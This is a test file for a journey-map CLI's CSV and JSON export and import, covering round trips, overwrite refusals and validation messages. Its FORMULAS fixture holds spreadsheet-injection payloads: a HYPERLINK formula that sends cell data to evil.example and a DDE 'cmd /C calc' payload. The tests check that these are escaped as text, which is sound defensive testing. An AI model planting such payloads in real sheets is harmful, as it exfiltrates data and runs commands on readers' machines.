"""``journeymaps export`` and ``journeymaps import`` (CSV sheets), run as a user runs them."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import yaml

from cli import invoke
from sites import REPO
from test_validation import BUY, FUT, VOCAB, edit, write, write_corpus

HEADER = ("journey,persona,type,status,stage,step,action,touchpoint,channel,device,department,contact,emotion,"
          "time,frontstage,backstage,support")
#: The columns before format 1.1: such a sheet still imports (the hand-made sheets below use it).
HEADER_1_0 = HEADER.removesuffix(",time,frontstage,backstage,support")




@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    """The small valid corpus of test_validation, in ``tmp_path``."""
    write_corpus(tmp_path)
    return tmp_path


def fresh(base: Path, source: Path = REPO) -> Path:
    """A repository below ``base`` with the vocabulary and personas of ``source``, and no journeys."""
    (base / "journeys").mkdir(parents=True)
    shutil.copy(source / "journeys/vocabulary.yml", base / "journeys/vocabulary.yml")
    shutil.copytree(source / "journeys/personas", base / "journeys/personas")
    return base


def files_below(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8") for p in sorted(root.rglob("*.md"))}


# --- export -------------------------------------------------------------------------


def test_export_csv(corpus: Path) -> None:
    result = invoke(corpus, "export", "--format", "csv")
    assert result.exit_code == 0
    assert result.stdout_bytes.decode("utf-8").split("\r\n") == [
        HEADER,
        "retail/buy-shoes,maya,current,approved,awareness,1,Sees a friend's post,Friend's post,social-media,"
        "mobile,marketing,direct,1,,,,",
        "retail/buy-shoes,maya,current,approved,purchase,1,Pays on the website,Checkout,website,desktop,,direct,-1,,,,",
        "retail/buy-shoes-future,maya,future,draft,purchase,1,Pays in one tap,,,,,,2,,,,",
        "",
    ]
    assert result.stderr == ""


def test_export_json(corpus: Path) -> None:
    result = invoke(corpus, "export")
    assert result.exit_code == 0
    document = json.loads(result.stdout)
    assert document["format"] == 1
    assert [j["id"] for j in document["journeys"]] == ["retail/buy-shoes", "retail/buy-shoes-future"]
    buy = document["journeys"][0]
    assert (buy["title"], buy["persona"], buy["reviewed"], buy["source"]) == (
        "Buying running shoes", "maya", "2026-04-14", "journeys/retail/buy-shoes.md")
    assert buy["phases"][0]["steps"][0]["pain_points"] == ["No size guide in the post"]
    assert buy["figures"]["touchpoints"] == 2


def test_export_only_some_statuses_to_a_file(corpus: Path) -> None:
    result = invoke(corpus, "export", "--format", "csv", "--status", "draft", "-o", "out/draft.csv")
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "wrote out/draft.csv: 1 journeys\n"
    text = (corpus / "out/draft.csv").read_bytes().decode("utf-8")
    assert text == f"{HEADER}\r\nretail/buy-shoes-future,maya,future,draft,purchase,1,Pays in one tap,,,,,,2,,,,\r\n"


def test_export_never_replaces_a_file_without_force(corpus: Path) -> None:
    write(corpus / "touchpoints.csv", "mine\n")
    result = invoke(corpus, "export", "--format", "csv", "-o", "touchpoints.csv")
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == "touchpoints.csv: exists already; use --force to replace it\nnothing was written\n"
    assert (corpus / "touchpoints.csv").read_text(encoding="utf-8") == "mine\n"
    result = invoke(corpus, "export", "--format", "csv", "-o", "touchpoints.csv", "--force")
    assert (result.exit_code, result.stderr) == (0, "wrote touchpoints.csv: 2 journeys\n")
    assert (corpus / "touchpoints.csv").read_bytes().startswith(HEADER.encode())


@pytest.mark.parametrize("target", [BUY, "journeys/retail/new.md", VOCAB, "journeys/personas/../notes.yaml"])
def test_export_never_writes_a_source_of_the_journeys_folder(corpus: Path, target: str) -> None:
    before = {p: p.read_bytes() for p in (corpus / "journeys").rglob("*") if p.is_file()}
    result = invoke(corpus, "export", "--format", "csv", "-o", target, "--force")
    assert result.exit_code == 1
    assert result.stderr == (f"{target}: is in the journeys folder, where .md and .yml files are journeys, personas "
                             "and the vocabulary; write somewhere else\nnothing was written\n")
    assert {p: p.read_bytes() for p in (corpus / "journeys").rglob("*") if p.is_file()} == before
    assert invoke(corpus, "export", "-o", "journeys/retail/export.json").exit_code == 0  # not a source: allowed


def test_export_leaves_out_broken_files_and_says_so(corpus: Path) -> None:
    edit(corpus, FUT, "persona: maya\n", "persona: maia\n")
    result = invoke(corpus, "export", "--format", "csv")
    assert result.exit_code == 1
    assert result.stdout_bytes.count(b"\r\n") == 3  # the header and the two touchpoints of the valid map
    assert result.stderr == f"{FUT}:3: persona: unknown persona 'maia'; did you mean 'maya'? (left out of the export)\n"


# --- CSV import: the round trip -------------------------------------------------------


def test_round_trip_of_the_sample_repository_is_lossless(tmp_path: Path) -> None:
    first = invoke(REPO, "export", "--format", "csv")
    assert first.exit_code == 0
    (tmp_path / "touchpoints.csv").write_bytes(first.stdout_bytes)
    target = fresh(tmp_path / "copy")
    imported = invoke(target, "import", str(tmp_path / "touchpoints.csv"))
    assert imported.exit_code == 0, imported.stdout + imported.stderr
    ids = sorted(p.relative_to(REPO / "journeys").as_posix()[:-3]
                 for p in (REPO / "journeys").rglob("*.md") if p.parent.name != "personas")
    assert imported.stdout.splitlines() == [f"wrote journeys/{ident}.md" for ident in ids]
    assert invoke(target, "validate").exit_code == 0
    second = invoke(target, "export", "--format", "csv")
    assert second.stdout_bytes == first.stdout_bytes
    assert second.stdout_bytes.count(b"\r\n") > 60


FORMULAS = {  # what a spreadsheet would run, or mark as text, at the start of a cell
    "Sees a friend's post": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "Friend's post": "+33 1 23 45 67 89",
    "Pays on the website": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Checkout": "'quoted in the map",
    "Pays in one tap": "- pays in one tap",
}


def test_export_never_starts_a_cell_with_a_formula_and_import_gives_the_text_back(corpus: Path,
                                                                                   tmp_path: Path) -> None:
    for old, new in FORMULAS.items():
        edit(corpus, BUY if old not in ("Pays in one tap",) else FUT, f": {old}\n", f": {json.dumps(new)}\n")
    assert invoke(corpus, "validate").exit_code == 0
    first = invoke(corpus, "export", "--format", "csv")
    assert first.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(first.stdout_bytes.decode("utf-8"), newline="")))
    cells = [row[column] for row in rows for column in ("action", "touchpoint") if row[column]]
    assert sorted(cells) == sorted("'" + text for text in FORMULAS.values())  # shown as text, never run
    sheet = tmp_path / "sheet.csv"
    sheet.write_bytes(first.stdout_bytes)
    target = fresh(tmp_path / "new", source=corpus)
    assert invoke(target, "import", str(sheet)).exit_code == 0
    texts = []
    for name in ("buy-shoes", "buy-shoes-future"):
        data = yaml.safe_load((target / f"journeys/retail/{name}.md").read_text(encoding="utf-8").split("---")[1])
        for phase in data["phases"]:
            for step in phase["steps"]:
                texts += [step["action"], *(tp["name"] for tp in step.get("touchpoints", []))]
    assert sorted(texts) == sorted(FORMULAS.values())  # the maps' own texts, without the mark
    second = invoke(target, "export", "--format", "csv")
    assert second.stdout_bytes == first.stdout_bytes  # the round trip is still lossless


def test_imported_file_is_exactly_what_the_sheet_says(corpus: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_bytes(invoke(corpus, "export", "--format", "csv").stdout_bytes)
    target = fresh(tmp_path / "new", source=corpus)
    result = invoke(target, "import", str(sheet))
    assert result.stdout.splitlines() == ["wrote journeys/retail/buy-shoes.md",
                                          "wrote journeys/retail/buy-shoes-future.md"]
    assert result.stderr.splitlines() == [
        "note: retail/buy-shoes: the title 'Buy shoes' is made from the id (a sheet has no titles); "
        "change it in the file",
        "note: retail/buy-shoes-future: the title 'Buy shoes future' is made from the id (a sheet has no titles); "
        "change it in the file",
    ]
    assert (target / "journeys/retail/buy-shoes.md").read_text(encoding="utf-8") == """\
---
title: Buy shoes
persona: maya
type: current
status: approved
phases:
  - stage: awareness
    steps:
      - action: Sees a friend's post
        emotion: 1
        touchpoints:
          - name: Friend's post
            channel: social-media
            device: mobile
            department: marketing
  - stage: purchase
    steps:
      - action: Pays on the website
        emotion: -1
        touchpoints:
          - name: Checkout
            channel: website
            device: desktop
---
"""


def sheet(tmp_path: Path, *rows: str, header: str = HEADER_1_0) -> Path:
    path = tmp_path / "sheet.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def test_a_hand_made_sheet_in_any_row_order(corpus: Path, tmp_path: Path) -> None:
    """Phases follow the vocabulary, steps their numbers, touchpoints their rows; text that looks like
    something else stays text."""
    path = sheet(
        tmp_path,
        "shop/socks,maya,current,review,purchase,3,Pays,Till,website,,,,0",
        "shop/socks,maya,current,review,awareness,1,no,Poster,social-media,,,indirect,",
        "shop/socks,maya,current,review,purchase,3,Pays,Receipt by email,email,,,,0",
        "shop/socks,maya,current,review,purchase,1,\"Asks: \"\"1e5?\"\"\",,,,,,-2",
    )
    result = invoke(corpus, "import", str(path))
    assert result.exit_code == 0, result.stdout
    assert result.stdout == "wrote journeys/shop/socks.md\n"
    assert result.stderr.splitlines() == [
        "note: shop/socks: the title 'Socks' is made from the id (a sheet has no titles); change it in the file",
        "note: shop/socks: the steps of purchase are numbered 1, 3 in the sheet; they become steps 1 to 2",
    ]
    assert (corpus / "journeys/shop/socks.md").read_text(encoding="utf-8") == """\
---
title: Socks
persona: maya
type: current
status: review
phases:
  - stage: awareness
    steps:
      - action: 'no'
        touchpoints:
          - name: Poster
            channel: social-media
            contact: indirect
  - stage: purchase
    steps:
      - action: 'Asks: "1e5?"'
        emotion: -2
      - action: Pays
        emotion: 0
        touchpoints:
          - name: Till
            channel: website
          - name: Receipt by email
            channel: email
---
"""
    assert invoke(corpus, "validate").exit_code == 0


# --- CSV import: what is refused --------------------------------------------------------


def test_existing_files_are_not_overwritten_without_force(corpus: Path, tmp_path: Path) -> None:
    exported = invoke(corpus, "export", "--format", "csv").stdout_bytes
    path = tmp_path / "sheet.csv"
    path.write_bytes(exported.replace(b"Pays in one tap", b"Pays with a tap"))
    before = files_below(corpus)
    result = invoke(corpus, "import", str(path))
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines()[-3:] == [
        "journeys/retail/buy-shoes.md: exists already; use --force to replace it",
        "journeys/retail/buy-shoes-future.md: exists already; use --force to replace it",
        "nothing was written",
    ]
    assert files_below(corpus) == before
    result = invoke(corpus, "import", "--force", str(path))
    assert result.exit_code == 0
    assert result.stdout.splitlines() == ["wrote journeys/retail/buy-shoes.md",
                                          "wrote journeys/retail/buy-shoes-future.md"]
    assert "action: Pays with a tap" in (corpus / FUT).read_text(encoding="utf-8")


def test_dry_run_writes_nothing(corpus: Path, tmp_path: Path) -> None:
    path = sheet(tmp_path, "new/map,maya,current,draft,awareness,1,Looks,,,,,,")
    result = invoke(corpus, "import", "--dry-run", str(path))
    assert (result.exit_code, result.stdout) == (0, "would write journeys/new/map.md\n")
    assert not (corpus / "journeys/new").exists()


@pytest.mark.parametrize(("rows", "expected"), [
    pytest.param(
        ["m,maya,current,draft,awareness,1,Looks,Post,fax,,,,"],
        ["sheet.csv:2: channel: unknown channel 'fax'; expected one of: email, live-chat, social-media, website"],
        id="unknown-channel"),
    pytest.param(
        ["m,maia,current,draft,awarenes,one,Looks,Post,email,mobil,,sideways,5"],
        ["sheet.csv:2: contact: unknown contact 'sideways'; expected one of: direct, indirect",
         "sheet.csv:2: device: unknown device 'mobil'; did you mean 'mobile'?",
         "sheet.csv:2: emotion: 5 is outside the emotion scale -2..2",
         "sheet.csv:2: persona: unknown persona 'maia'; did you mean 'maya'?",
         "sheet.csv:2: stage: unknown stage 'awarenes'; did you mean 'awareness'?",
         "sheet.csv:2: step: expected a whole number, got 'one'"],
        id="every-cell-wrong"),
    pytest.param(
        ["m,maya,current,draft,awareness,1,Looks,Post,email,,,,1",
         "m,maya,future,draft,awareness,1,Looks again,Ad,email,,,,0"],
        ["sheet.csv:3: action: step 1 of awareness has the action 'Looks' on line 2; "
         "rows of one step must have the same action",
         "sheet.csv:3: emotion: step 1 of awareness has the emotion 1 on line 2; "
         "rows of one step must have the same emotion",
         "sheet.csv:3: type: 'future' differs from 'current' on line 2 for the same journey; use one"],
        id="rows-of-one-step-disagree"),
    pytest.param(
        ["m,maya,current,draft,awareness,1,Looks,,email,,,,", "../up,maya,current,draft,awareness,1,,,,,,,"],
        ["sheet.csv:2: channel: 'email' is given but the touchpoint name is empty; name the touchpoint or empty "
         "the cell",
         "sheet.csv:3: action: the action is empty; every step needs one",
         "sheet.csv:3: journey: '../up' cannot be a journey id: use parts of letters, digits, '-' and '_' separated "
         "by '/', none starting with '_' or '.'"],
        id="empty-cells-and-a-path-that-leaves-the-folder"),
    pytest.param(
        ["m,maya,current,draft,awareness,1,Looks,Post,email,,,,",
         "m,maya,current,draft,awareness,1,Looks,post!,email,,,,"],
        ["sheet.csv:3: touchpoint: 'post!' has the same address as the touchpoint on line 2; give touchpoints of "
         "one step different names"],
        id="touchpoints-with-one-address"),
    pytest.param(
        ["m,maya,current,draft,awareness,1,Looks"],
        ["sheet.csv:2: the row has 7 cells; the header has 13"],
        id="short-row"),
])
def test_sheet_problems_name_the_row_and_column(corpus: Path, tmp_path: Path, rows: list[str],
                                                expected: list[str]) -> None:
    path = sheet(tmp_path, *rows)
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "sheet.csv")
    assert result.stdout.splitlines() == expected
    assert result.stderr == f"{len(expected)} problem{'s' * (len(expected) != 1)}; nothing was written\n"
    assert result.exit_code == 1
    assert path.exists() and not (corpus / "journeys/m.md").exists()


def test_sheet_with_other_columns_than_the_export_is_read_as_one_row_per_step(corpus: Path, tmp_path: Path) -> None:
    """Before issue 16 a column that was not one of the export's was refused; now the export's names are headers
    like any other (``emotions`` is the feeling), and the sheet is read as one row per step."""
    path = tmp_path / "sheet.csv"
    path.write_text(HEADER.replace("emotion", "emotions").replace(",department", "") + "\n"
                    "m,maya,current,draft,awareness,1,Looks,Poster,social-media,,,-1\n", encoding="utf-8")
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "sheet.csv")
    assert (result.exit_code, result.stdout) == (0, "wrote journeys/m.md\n")
    assert result.stderr.splitlines() == [
        "note: sheet.csv: read as one row per step (16 columns: 16 recognised)",
        "note: sheet.csv: column 'emotions' read as -2..2",
    ]
    text = (corpus / "journeys/m.md").read_text(encoding="utf-8")
    assert "      - action: Looks\n        feeling: '-1'\n        emotion: -1\n" in text
    assert "          - name: Poster\n            channel: social-media\n" in text


def test_empty_sheet_and_sheet_without_rows(corpus: Path, tmp_path: Path) -> None:
    (tmp_path / "empty.csv").write_text("", encoding="utf-8")
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "empty.csv")
    assert result.stdout == ("empty.csv:1: the sheet is empty; expected one row per step, whose first row names at "
                             "least two fields, one of them the action (Step, Action, Doing, Customer action...) or "
                             "the touchpoint; or a grid whose first column names the lanes (Doing, Touchpoints, "
                             "Thinking...) under a row of stages; or the columns of 'journeymaps export --format "
                             "csv'\n")
    sheet(tmp_path)
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "sheet.csv")
    assert result.stdout == "sheet.csv:2: the sheet has no rows below its header\n"
    assert result.exit_code == 1


def test_sheet_that_is_not_utf8(corpus: Path, tmp_path: Path) -> None:
    text = f"{HEADER_1_0}\nm,maya,current,draft,awareness,1,Café,,,,,,\n"
    (tmp_path / "latin1.csv").write_bytes(text.encode("latin-1"))
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "latin1.csv")
    assert result.stdout == "latin1.csv:1: the file is not UTF-8 text; save it as UTF-8\n"
    assert result.exit_code == 1


def test_persona_option_is_accepted_for_a_sheet(corpus: Path, tmp_path: Path) -> None:
    """Refused for every sheet before issue 16; a sheet of the export names its personas, so it changes nothing."""
    sheet(tmp_path, "m,maya,current,draft,awareness,1,Looks,,,,,,")
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "--persona", "maya", "sheet.csv")
    assert result.exit_code == 0
    assert "persona: maya\n" in (corpus / "journeys/m.md").read_text(encoding="utf-8")


def test_import_into_a_folder_with_a_broken_vocabulary(corpus: Path, tmp_path: Path) -> None:
    edit(corpus, "journeys/vocabulary.yml", "devices:", "device:")
    sheet(tmp_path, "m,maya,current,draft,awareness,1,Looks,,,,,,")
    result = invoke(corpus, "import", str(tmp_path / "sheet.csv"))
    assert result.stdout == "journeys/vocabulary.yml:11: device: unknown key 'device'; did you mean 'devices'?\n"
    assert result.stderr == "1 problem; the journeys folder has problems; nothing was written\n"
    assert result.exit_code == 1


def test_broken_journeys_beside_do_not_stop_an_import(corpus: Path, tmp_path: Path) -> None:
    edit(corpus, BUY, "persona: maya\n", "persona: maia\n")
    write(tmp_path / "sheet.csv", f"{HEADER_1_0}\nm,maya,current,draft,awareness,1,Looks,,,,,,\n")
    result = invoke(corpus, "import", str(tmp_path / "sheet.csv"))
    assert (result.exit_code, result.stdout) == (0, "wrote journeys/m.md\n")


# --- format 1.1: a step's time and its frontstage and support lanes ----------------------

LANES = """\
        time: "07:30"
        frontstage:
          - "=SUM(A1:A3) posts a day, says the campaign sheet"
          - Staff answer comments on the post
        support:
          - |-
            Campaign scheduling tool,
              with its "approval" step
          - Social media inbox
"""


def with_lanes(corpus: Path) -> None:
    """Give the first step of BUY a time and both lanes, and the future map's step a time a spreadsheet would run."""
    edit(corpus, BUY, "        emotion: 1\n", "        emotion: 1\n" + LANES)
    edit(corpus, FUT, "        emotion: 2\n", "        emotion: 2\n        time: +2 days\n")
    assert invoke(corpus, "validate").exit_code == 0


def test_export_csv_carries_the_time_and_the_lanes(corpus: Path) -> None:
    with_lanes(corpus)
    result = invoke(corpus, "export", "--format", "csv")
    assert result.exit_code == 0
    text = result.stdout_bytes.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["time"], r["frontstage"], r["support"]) for r in rows] == [
        ("07:30", "'=SUM(A1:A3) posts a day, says the campaign sheet\nStaff answer comments on the post",
         'Campaign scheduling tool, with its "approval" step\nSocial media inbox'),
        ("", "", ""),
        ("'+2 days", "", ""),  # marked as text, as the action and touchpoint cells are
    ]
    assert text.split("\r\n")[1].endswith(
        ',1,07:30,"\'=SUM(A1:A3) posts a day, says the campaign sheet\nStaff answer comments on the post",,'
        '"Campaign scheduling tool, with its ""approval"" step\nSocial media inbox"')


def test_export_json_carries_the_time_and_the_lanes(corpus: Path) -> None:
    with_lanes(corpus)
    document = json.loads(invoke(corpus, "export").stdout)
    first, second = (phase["steps"][0] for phase in document["journeys"][0]["phases"])
    assert first["time"] == "07:30"
    assert first["frontstage"] == ["=SUM(A1:A3) posts a day, says the campaign sheet",
                                   "Staff answer comments on the post"]
    assert first["support"] == ['Campaign scheduling tool,\n  with its "approval" step', "Social media inbox"]
    assert "time" not in second and (second["frontstage"], second["support"]) == ([], [])


def test_round_trip_with_the_time_and_the_lanes_is_lossless(corpus: Path, tmp_path: Path) -> None:
    with_lanes(corpus)
    first = invoke(corpus, "export", "--format", "csv")
    (tmp_path / "sheet.csv").write_bytes(first.stdout_bytes)
    target = fresh(tmp_path / "new", source=corpus)
    assert invoke(target, "import", str(tmp_path / "sheet.csv")).exit_code == 0
    text = (target / BUY).read_text(encoding="utf-8")
    assert text[text.index("  - stage: awareness\n"):text.index("  - stage: purchase\n")] == """\
  - stage: awareness
    steps:
      - action: Sees a friend's post
        emotion: 1
        touchpoints:
          - name: Friend's post
            channel: social-media
            device: mobile
            department: marketing
        time: 07:30
        frontstage:
          - =SUM(A1:A3) posts a day, says the campaign sheet
          - Staff answer comments on the post
        support:
          - Campaign scheduling tool, with its "approval" step
          - Social media inbox
"""
    assert "        time: +2 days\n" in (target / FUT).read_text(encoding="utf-8")
    assert invoke(target, "validate").exit_code == 0
    second = invoke(target, "export", "--format", "csv")
    assert second.stdout_bytes == first.stdout_bytes


def test_a_hand_made_sheet_with_the_lanes(corpus: Path, tmp_path: Path) -> None:
    """One text a line in a lane's cell; blank lines and the CR of a CRLF inside the cell are dropped."""
    path = sheet(tmp_path, 'shop/socks,maya,blueprint,draft,purchase,1,Pays,Till,website,,,,0,Lunch break,'
                           '"Greets her\r\n\r\n  Scans the socks  ",,Till system',
                 'shop/socks,maya,blueprint,draft,purchase,1,Pays,Receipt,email,,,,0,Lunch break,'
                 '"Greets her\nScans the socks",,Till system', header=HEADER)
    result = invoke(corpus, "import", str(path))
    assert result.exit_code == 0, result.stdout
    text = (corpus / "journeys/shop/socks.md").read_text(encoding="utf-8")
    assert text.endswith("""\
        time: Lunch break
        frontstage:
          - Greets her
          - Scans the socks
        support:
          - Till system
---
""")


def test_rows_of_one_step_must_agree_on_the_time_and_the_lanes(corpus: Path, tmp_path: Path) -> None:
    sheet(tmp_path, "m,maya,current,draft,awareness,1,Looks,Post,email,,,,,07:10,Waves,,",
          "m,maya,current,draft,awareness,1,Looks,Ad,email,,,,,07:30,Waves,,Ad server",
          "m,maya,current,draft,awareness,1,Looks,Flyer,email,,,,,,Smiles,,", header=HEADER)
    result = invoke(tmp_path, "import", "--journeys", str(corpus / "journeys"), "sheet.csv")
    assert result.stdout.splitlines() == [
        "sheet.csv:3: support: step 1 of awareness has other support texts on line 2; "
        "rows of one step must have the same support",
        "sheet.csv:3: time: step 1 of awareness has the time '07:10' on line 2; "
        "rows of one step must have the same time",
        "sheet.csv:4: frontstage: step 1 of awareness has other frontstage texts on line 2; "
        "rows of one step must have the same frontstage",
        "sheet.csv:4: time: step 1 of awareness has the time '07:10' on line 2; "
        "rows of one step must have the same time",
    ]
    assert result.exit_code == 1
